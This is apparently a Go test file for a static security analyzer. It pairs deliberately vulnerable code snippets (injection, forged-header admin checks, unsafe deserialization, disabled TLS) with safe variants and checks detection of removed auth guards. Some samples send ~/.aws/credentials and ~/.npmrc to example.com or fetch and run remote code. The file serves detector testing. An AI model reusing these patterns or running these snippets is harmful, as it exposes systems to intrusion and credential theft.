package code_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"fettle/internal/policy/code"
)

// TestQueries splices values into questions that are not SQL, and into heads of mails. After each dangerous source stands one that is nearly the same and harmless.
func TestQueries(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"def find(conn, uid):\n    conn.search('ou=people', '(uid=' + uid + ')')", true},
		{"from ldap3.utils.conv import escape_filter_chars\ndef find(conn, uid):\n    conn.search('ou=people', '(uid=' + escape_filter_chars(uid) + ')')", false},
		{"def find(conn):\n    conn.search('ou=people', '(objectClass=person)')", false},
		{"def f(a, b):\n    return f'({a}={b})'\ndef find(conn, uid):\n    conn.search(search_base='ou=people', search_filter=f'(&(uid={uid})(active=1))')", true},
		{"def find(tree, name):\n    return tree.xpath(f\"//user[name='{name}']\")", true},
		{"def find(tree, name):\n    return tree.xpath('//user[name=$name]', name=name)", false},
		{"import smtplib\nfrom flask import request\ndef send(s):\n    s.sendmail('a', ['b'], 'Subject: ' + request.form['s'] + '\\r\\n\\r\\nhello')", true},
		{"import smtplib\nfrom flask import request\ndef send(s):\n    s.sendmail('a', ['b'], 'Subject: hello\\r\\n\\r\\n' + request.form['s'])", false},
		{"from lxml import etree\ndef read(data):\n    return etree.fromstring(data)", true},
		{"from lxml import etree\nSAFE = etree.XMLParser(resolve_entities=False)\ndef read(data):\n    return etree.fromstring(data, parser=SAFE)", false},
		{"import shlex\ndef size(client, path):\n    client.exec_command('stat ' + path)", true},
		{"import shlex\ndef size(client, path):\n    client.exec_command('stat ' + shlex.quote(path))", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"module.exports = (client, uid, done) => client.search('ou=people', { filter: `(uid=${uid})` }, done);", true},
		{"module.exports = (client, done) => client.search('ou=people', { filter: '(uid=*)' }, done);", false},
		{"app.post('/in', async (req, res) => { const u = await User.findOne({ name: req.body.name, password: req.body.password }); });", true},
		{"app.post('/in', async (req, res) => { const u = await User.findOne({ name: req.body.name, token: String(req.body.token) }); });", false},
		{"app.post('/in', async (req, res) => { const u = await User.findOne({ name: req.body.name }); });", false},
		{"app.delete('/all', async (req, res) => { await Item.deleteMany(req.body); });", true},
		{"const names = list.find((n) => n === 'a');", false},
		{"const { Client } = require('ssh2');\nfunction restart(name) { const c = new Client(); c.on('ready', () => c.exec('systemctl restart ' + name, done)); }", true},
		{"const { Client } = require('ssh2');\nfunction restart() { const c = new Client(); c.on('ready', () => c.exec('systemctl restart web', done)); }", false},
		{"const m = /a(b)/.exec(text);", false},
		{"module.exports = (db, name) => db.prepare(`SELECT * FROM t WHERE a = '${name}'`).all();", true},
		{"module.exports = (db, name) => db.prepare('SELECT * FROM t WHERE a = ?').all(name);", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void f(DirContext c, String uid) { c.search(\"ou=people\", \"(uid=\" + uid + \")\", controls); }", true},
		{"void f(DirContext c, String uid) { c.search(\"ou=people\", \"(uid={0})\", new Object[] {uid}, controls); }", false},
		{"void f(XPath x, Document d, String n) { x.evaluate(\"//user[@name='\" + n + \"']\", d); }", true},
		{"void f(XPath x, Document d) { x.evaluate(\"//user[@name=$name]\", d); }", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"github.com/go-ldap/ldap/v3\"\nfunc f(uid string) { ldap.NewSearchRequest(\"ou=people\", 2, 0, 0, 0, false, \"(uid=\"+uid+\")\", nil, nil) }", true},
		{"import \"github.com/go-ldap/ldap/v3\"\nfunc f(uid string) { ldap.NewSearchRequest(\"ou=people\", 2, 0, 0, 0, false, \"(uid=\"+ldap.EscapeFilter(uid)+\")\", nil, nil) }", false},
	})
}

// TestOfOnesOwn is what protects nothing because somebody made it himself, or left it to who asks, and what harms in pieces.
func TestOfOnesOwn(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"from celery import Celery\napp = Celery('a')\napp.conf.update(task_serializer='pickle')", true},
		{"from celery import Celery\napp = Celery('a')\napp.conf.accept_content = ['json', 'pickle']", true},
		{"from celery import Celery\napp = Celery('a')\napp.conf.update(task_serializer='json', accept_content=['json'])", false},
		{"def encrypt_password(p, key):\n    return bytes(a ^ b for a, b in zip(p, key))", true},
		{"def encrypt_password(p, box):\n    return box.encrypt(p)", false},
		{"def checksum(data):\n    x = 0\n    for b in data:\n        x ^= b\n    return x", false},
		{"import hashlib, time\ndef reset_token(user):\n    return hashlib.md5(f'{user}{time.time()}'.encode()).hexdigest()", true},
		{"import hashlib\ndef token_of_page(text):\n    return hashlib.md5(text.encode()).hexdigest()", false},
		{"import random\ndef digits(n):\n    return ''.join(random.choice('0123456789') for _ in range(n))\ndef login(user):\n    user.otp = digits(6)", true},
		{"import random\ndef digits(n):\n    return ''.join(random.choice('0123456789') for _ in range(n))\ndef sample(user):\n    user.table = digits(6)", false},
		{"from werkzeug.serving import run_simple\nOPTIONS = {'use_debugger': True}\nrun_simple('0.0.0.0', 80, app, **OPTIONS)", true},
		{"import aiohttp\ndef options():\n    return {'ssl': False}\ndef connect():\n    return aiohttp.TCPConnector(**options())", true},
		{"import subprocess, sys, urllib.request\ndef stage(url):\n    path = '/srv/x.py'\n    open(path, 'wb').write(urllib.request.urlopen(url).read())\n    return path\nsubprocess.Popen([sys.executable, stage('https://example.com/x.py')])", true},
		{"import subprocess, sys\ndef stage(text):\n    path = 'x.py'\n    open(path, 'w').write(text)\n    return path\nsubprocess.Popen([sys.executable, stage('print(1)')])", false},
		{"import os, requests\ndef all_of_them():\n    return [open(os.path.expanduser(p)).read() for p in ['~/.npmrc', '~/.aws/credentials']]\nrequests.post('https://example.com', json=all_of_them())", true},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"class AdminGuard { canActivate(c) { return c.req.headers['x-role'] === 'admin'; } }", true},
		{"class AdminGuard { canActivate(c) { return c.req.user.role === 'admin'; } }", false},
		{"const multer = require('multer');\nmulter.diskStorage({ filename: (req, file, cb) => cb(null, file.originalname) });", true},
		{"const multer = require('multer');\nmulter.diskStorage({ filename: (req, file, cb) => cb(null, Date.now() + path.extname(file.originalname)) });", false},
		{"function put(o, path, v) { const keys = path.split('.'); const last = keys.pop(); for (const k of keys) o = o[k] ??= {}; o[last] = v; }\napp.put('/p', (req, res) => put(prefs, req.body.path, req.body.v));", true},
		{"function put(o, path, v) { const keys = path.split('.'); if (keys.includes('__proto__')) return; const last = keys.pop(); for (const k of keys) o = o[k] ??= {}; o[last] = v; }\napp.put('/p', (req, res) => put(prefs, req.body.path, req.body.v));", false},
		{"const settings = { tls: { strict: false } };\nfunction agent({ tls }) { return new https.Agent({ rejectUnauthorized: tls.strict }); }\nagent(settings);", true},
		{"const settings = { tls: { strict: true } };\nfunction agent({ tls }) { return new https.Agent({ rejectUnauthorized: tls.strict }); }\nagent(settings);", false},
		{"const id = () => Math.random().toString(16);\napp.use((req, res) => { const sid = id(); res.cookie('sid', sid); });", true},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"crypto/tls\"\nfunc conf(strict bool) *tls.Config { return &tls.Config{InsecureSkipVerify: !strict} }\nvar c = conf(false)", true},
		{"import \"crypto/tls\"\nfunc conf(strict bool) *tls.Config { return &tls.Config{InsecureSkipVerify: !strict} }\nvar c = conf(true)", false},
		{"import \"crypto/aes\"\nfunc seal(key, data []byte) { b, _ := aes.NewCipher(key); for i := 0; i < len(data); i += 16 { b.Encrypt(data[i:], data[i:]) } }", true},
		{"import \"crypto/aes\"\nimport \"crypto/cipher\"\nfunc seal(key, data, nonce []byte) []byte { b, _ := aes.NewCipher(key); g, _ := cipher.NewGCM(b); return g.Seal(nil, nonce, data, nil) }", false},
		{"import \"net/http\"\nimport \"os\"\nimport \"io\"\nimport \"os/exec\"\nfunc fetch(url, path string) { r, _ := http.Get(url); data, _ := io.ReadAll(r.Body); os.WriteFile(path, data, 0o755) }\nfunc Run() { fetch(\"http://example.com/a\", \"/srv/a\"); exec.Command(\"/srv/a\").Run() }", true},
		{"import \"os\"\nimport \"path/filepath\"\nfunc Files() { home, _ := os.UserHomeDir(); for _, p := range []string{filepath.Join(home, \".bashrc\")} { os.WriteFile(p, nil, 0o644) } }", true},
		{"import \"os\"\nimport \"path/filepath\"\nfunc Files(dir string) { for _, p := range []string{filepath.Join(dir, \"a.txt\")} { os.WriteFile(p, nil, 0o644) } }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS) public Object payload;", true},
		{"@JsonTypeInfo(use = JsonTypeInfo.Id.NAME) public Shape payload;", false},
		{"Yaml yaml() { var o = new LoaderOptions(); o.setTagInspector(tag -> true); return new Yaml(o); }", true},
		{"private Yaml yaml() { return new Yaml(new SafeConstructor(new LoaderOptions())); }\nObject read(String s) { return yaml().load(s); }", false},
		{"private static final Map<String, List<String>> C = Map.of(\"a\", List.of(\"df\", \"-h\"));\nprivate List<String> command(String n) { return C.get(n); }\nvoid run(String n) { new ProcessBuilder(command(n)).start(); }", false},
		{"List<?> f(EntityManager em, String a, String b) { return em.createNativeQuery(where(a).append(\" ORDER BY \").append(b).toString()).getResultList(); }\nprivate StringBuilder where(String a) { return new StringBuilder(\"SELECT * FROM t WHERE a = '\").append(a).append(\"'\"); }", true},
	})
}

// TestNotOf is ordinary code that looks like questions, ciphers and guards, and code that only seems to be the file's own.
func TestNotOf(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import re\ndef f(key, text):\n    return re.search('(id=' + key + ')', text)", false},
		{"def _q(cur, x):\n    cur.execute(\"SELECT * FROM t WHERE a = '\" + x + \"'\")\ndef run(cursor):\n    _q(cursor, 'a')", false},
		{"def _q(cur, x):\n    cur.execute(\"SELECT * FROM t WHERE a = '\" + x + \"'\")\ndef run(cursor):\n    _q(cursor, 'a')\nregister('/x', _q)", true},
		{"class A:\n    t = 'a'\n    def run(self, cur):\n        cur.execute('SELECT * FROM ' + self.t)", false},
		{"class A:\n    t = 'a'\n    def run(self, cur):\n        cur.execute('SELECT * FROM ' + self.t)\ndef f(a, c):\n    a.t = c", true},
		{"def size(client, path):\n    client.exec_command(f'rm {path} # shlex.quote(')", true},
		{"class Api:\n    def authorize(self, headers):\n        return headers.get('X-Auth-Token') == settings.API_TOKEN", false},
		{"import random\ndef jitter():\n    return random.random()\nloop.later(jitter(), 'x')  # before the token runs out", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"function isAdmin(req) { const role = req.headers['x-user-role']; return role === 'admin'; }", true},
		{"function isAdmin(req) { const role = req.user.role; return role === 'admin'; }", false},
		{"d3.select(`[data-id='${id}']`).remove();", false},
		{"app.get('/r', async (req, res) => { await User.findOne({ resetToken: req.params.token }); });", false},
		{"function same(a, b) { let d = 0; for (let i = 0; i < a.length; i++) d |= a[i] ^ b[i]; return d === 0; }\nfunction decryptToken(t) { if (!same(mac(t), t.mac)) throw new Error(); return box.open(t); }", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"database/sql\"\nfunc find(db *sql.DB, a string) { db.Query(\"SELECT * FROM t WHERE a = '\" + a + \"'\") }\nfunc Run(db *sql.DB) { find(db, \"a\") }", true},
	})
}

// TestBelieved is a guard that believes a header of who asks, in each language's words, and one that compares it with what it knows.
func TestBelieved(t *testing.T) {
	judgeKinds(t, "java", []kindRow{
		{"boolean isAdmin(HttpServletRequest req) { return \"admin\".equals(req.getHeader(\"X-Role\")); }", true},
		{"boolean isAdmin(HttpServletRequest req) { return \"admin\".equals(session(req).role()); }", false},
		{"boolean isAdmin(HttpServletRequest req) { return \"text\".equals(req.getHeader(\"Accept\")); }", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"def is_admin(request):\n    return request.headers.get('X-Role') in ('admin', 'owner')", true},
		{"def is_admin(request):\n    return request.user.role in ('admin', 'owner')", false},
		{"def is_admin(request):\n    return request.headers.get('X-Auth-Token') in tokens", false},
		{"def is_allowed(request):\n    return request.headers.get('X-Forwarded-For') in ('10.0.0.1',)", true},
		{"def is_rate_limit_allowed(request):\n    return request.headers.get('X-Forwarded-For') in ('10.0.0.1',)", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"function isAdmin(req) { return req.get('x-admin') === '1'; }", true},
		{"function isAdmin(req) { return cache.get('x-admin') === '1'; }", false},
		{"function isAdmin(req) { return ['admin', 'owner'].includes(req.headers['x-role']); }", true},
		{"function isAdmin(req) { return ['admin', 'owner'].includes(req.user.role); }", false},
		{"function isAdmin(req) { return req.get('x-admin-token') === process.env.TOKEN; }", false},
	})
}

// TestEndless is code that goes in circles, or has much of everything: it is read all the same.
func TestEndless(t *testing.T) {
	for name, src := range map[string]struct{ path, text string }{
		"names for each other":     {"a.py", "class K:\n    def foo(self): return 1\na = b\nb = c\nc = a\na.foo()\n"},
		"a list of itself":         {"a.js", "const xs = ys.filter(n => S.has(n)); const S = new Set(xs); db.query('select ' + xs);"},
		"calls of calls of calls":  {"b.py", "def encrypt_token():\n" + strings.Repeat("    g()\n", 300) + "def g():\n" + strings.Repeat("    h()\n", 300) + "def h():\n" + strings.Repeat("    x = 1\n", 300)},
		"many numbers, many calls": {"c.py", "import random\ndef f():\n" + strings.Repeat("    random.random()\n", 300) + strings.Repeat("f()\n", 300)},
		"a long list, many calls":  {"b.js", "function f(x) { return [" + strings.Repeat("x, ", 1000) + "]; }\n" + strings.Repeat("exec(f('a'));\n", 1000)},
	} {
		t.Run(name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
			defer cancel()
			done := make(chan error, 1)
			go func() {
				_, err := code.Find(t.Context(), src.path, []byte(src.text))
				done <- err
			}()
			select {
			case err := <-done:
				if err != nil {
					t.Error(err)
				}
			case <-ctx.Done():
				t.Fatal("it takes too long")
			}
		})
	}
}

// TestLost takes away what protects handlers, or moves it.
func TestLost(t *testing.T) {
	for _, c := range []struct {
		path, before, after, lost string
	}{
		{"a.py", "@app.delete('/u')\n@login_required\n@admin_required\ndef delete(uid):\n    pass\n", "@app.delete('/u')\n@login_required\ndef delete(uid):\n    pass\n", "@admin_required is gone"},
		{"a.py", "@app.delete('/u')\n@login_required\ndef delete(uid):\n    pass\n", "@app.delete('/u')\n@permission_required('x')\ndef delete(uid):\n    pass\n", "@login_required is gone"},
		{"a.py", "@app.delete('/u')\n@login_required\ndef delete(uid):\n    pass\n", "def other():\n    pass\n", ""},
		{"a.py", "@app.get('/u')\ndef show(user=Depends(get_current_user)):\n    pass\n", "@app.get('/u')\ndef show():\n    pass\n", "get_current_user is gone"},
		{"a.js", "r.get('/a', requireUser, show);\n", "r.get('/a', show);\n", "requireUser is gone"},
		{"a.js", "r.get('/a', requireUser, show);\n", "r.use(requireUser);\nr.get('/a', show);\n", ""},
		{"a.js", "r.use(requireUser);\nr.get('/a', show);\n", "r.get('/a', show);\n", "requireUser is gone"},
		{"a.js", "r.get('/a', requireUser, show);\nr.get('/b', show);\n", "r.get('/b', show);\n", ""},
		{"a.js", "r.delete('/a', requireRole('admin'), drop);\n", "r.delete('/a', requireRole('user'), drop);\n", `requireRole("admin") is gone`},
		{"a.go", "package p\nfunc f(r chi.Router) { r.Use(requireUser); r.Get(\"/a\", show) }\n", "package p\nfunc f(r chi.Router) { r.Get(\"/a\", show) }\n", "requireUser is gone"},
		{"a.go", "package p\nfunc f() { http.HandleFunc(\"/a\", requireUser(show)) }\n", "package p\nfunc f() { http.HandleFunc(\"/a\", show) }\n", "requireUser is gone"},
		{"A.java", "class A {\n    @PreAuthorize(\"hasRole('ADMIN')\")\n    @DeleteMapping(\"/u\")\n    void drop() {}\n}\n", "class A {\n    @DeleteMapping(\"/u\")\n    void drop() {}\n}\n", `@PreAuthorize("hasRole("ADMIN")") is gone`},
		{"A.java", "class A {\n    @GetMapping(\"/u\")\n    @PreAuthorize(\"hasRole('A')\")\n    void show() {}\n}\n", "class A {\n    @GetMapping(\"/u/{id}\")\n    @PreAuthorize(\"hasRole('A')\")\n    void show() {}\n}\n", ""},
		{"a.py", "class V:\n    def a(self):\n        return 1\n    @login_required\n    def b(self):\n        return 2\n", "class V:\n    def a(self):\n        return {'x': 1}\n    @login_required\n    def b(self):\n        return 2\n", ""},
		{"a.py", "class V(LoginRequiredMixin, View):\n    def get(self):\n        return 1\n", "class V(View):\n    def get(self):\n        return 1\n", "LoginRequiredMixin is gone"},
		{"a.py", "urls = [path('x', login_required(show))]\n", "urls = [path('x', show)]\n", "login_required is gone"},
		{"a.py", "@app.get('/x', dependencies=[Depends(require_admin)])\ndef x():\n    pass\n", "@app.get('/x')\ndef x():\n    pass\n", `@app.get("/x",dependencies=[Depends(require_admin)]) is gone`},
		{"a.py", "@app.get('/u')\n@login_required\ndef show():\n    pass\n", "@app.get('/u')\ndef show_all():\n    pass\n", "@login_required is gone"},
		{"a.py", "@app.get('/u')\n@login_required\ndef show():\n    pass\n", "@app.get('/u')\n@login_required\ndef show_all():\n    pass\n", ""},
		{"A.java", "class A {\n    @GetMapping(\"/u\")\n    @PreAuthorize(\"isAdmin()\")\n    void show() {}\n}\n", "class A {\n    @GetMapping(\"/u\")\n    void list() {}\n}\n", `@PreAuthorize("isAdmin()") is gone`},
		{"a.js", "app.route('/a').get(show).post(requireUser, add);\n", "app.route('/a').get(show).post(add);\n", "requireUser is gone"},
		{"a.js", "app.route('/a').get(show).post(requireUser, add);\n", "app.route('/b').get(show).post(requireUser, add);\n", ""},
		{"a.js", "app.use(requireUser);\napp.get('/a', a);\napp.get('/b', b);\n", "app.get('/a', requireUser, a);\napp.get('/b', requireUser, b);\n", ""},
		{"A.java", "class A {\n    @PreAuthorize(\"hasRole('ADMIN')\")\n    void drop() {}\n}\n", "@PreAuthorize(\"hasRole('ADMIN')\")\nclass A {\n    void drop() {}\n}\n", ""},
		{"a.py", "@staff_member_required\ndef add(request):\n    pass\n", "def add(request):\n    pass\n", "@staff_member_required is gone"},
		{"a.py", "@json_required\ndef add(request):\n    pass\n", "def add(request):\n    pass\n", ""},
		{"a.py", "@require_POST\ndef add(request):\n    pass\n", "@csrf_exempt\n@require_POST\ndef add(request):\n    pass\n", "@csrf_exempt opens it to everybody"},
		{"a.py", "@csrf_exempt\ndef hook(request):\n    pass\n", "@csrf_exempt\ndef hook(request):\n    return 1\n", ""},
		{"a.py", "class V(APIView):\n    permission_classes = [IsAdminUser]\n", "class V(APIView):\n    permission_classes = [AllowAny]\n", "AllowAny opens it to everybody; IsAdminUser is gone"},
		{"a.py", "class V(APIView):\n    permission_classes = [IsAdminUser]\n", "class V(APIView):\n    permission_classes = [IsAdminUser, IsOwner]\n", ""},
		{"a.go", "package p\nfunc f(m *http.ServeMux, a Auth) { m.Handle(\"POST /r\", a.Require(\"clerk\", refund)) }\n", "package p\nfunc f(m *http.ServeMux, a Auth) { m.HandleFunc(\"POST /r\", refund) }\n", "a.Require is gone"},
		{"a.js", "r.get('/a', load(require('./a')));\n", "r.get('/a', show);\n", ""},
		{"a.js", "r.get('/a', gate.require('admin', show));\n", "r.get('/a', show);\n", "gate.require is gone"},
		{"A.java", "class A {\n    void f(H h) { h.authorizeHttpRequests(a -> a.requestMatchers(\"/admin/**\").hasRole(\"ADMIN\").anyRequest().authenticated()); }\n}\n", "class A {\n    void f(H h) { h.authorizeHttpRequests(a -> a.requestMatchers(\"/admin/**\").permitAll().anyRequest().authenticated()); }\n}\n", `hasRole("ADMIN") is gone; permitAll opens it to everybody`},
		{"A.java", "class A {\n    @Override\n    protected int a() { return 1; }\n    @Override\n    public int b() { return 2; }\n}\n", "class A {\n    @Override\n    protected int a() { return 3; }\n    @Override\n    public int b() { return 2; }\n}\n", ""},
		{"a.py", "class V:\n    @login_required\n    def a(self):\n        return 1\n    def b(self):\n        return 2\n", "class V:\n    @login_required\n    def a(self):\n        return 3\n    def b(self):\n        return 2\n", ""},
		{"a.ts", "class V {\n  @UseGuards(A)\n  a() { return 1; }\n  b() { return 2; }\n}\n", "class V {\n  @UseGuards(A)\n  a() { return 3; }\n  b() { return 2; }\n}\n", ""},
		{"a.ts", "class V {\n  @UseGuards(A)\n  a() { return 1; }\n}\n", "class V {\n  a() { return 1; }\n}\n", "@UseGuards(A) is gone"},
		{"A.java", "class A {\n    @PreAuthorize(\"isAdmin()\")\n    void drop() {}\n}\n", "class A {\n    @PermitAll\n    void drop() {}\n}\n", `@PermitAll opens it to everybody; @PreAuthorize("isAdmin()") is gone`},
	} {
		brought, err := code.Change(t.Context(), c.path, []byte(c.before), []byte(c.after))
		if err != nil {
			t.Fatal(err)
		}
		var names []string
		for _, b := range brought {
			names = append(names, b.Name)
		}
		if got := strings.Join(names, "; "); got != c.lost {
			t.Errorf("%s: from\n%sto\n%slost %q, want %q", c.path, c.before, c.after, got, c.lost)
		}
	}
}
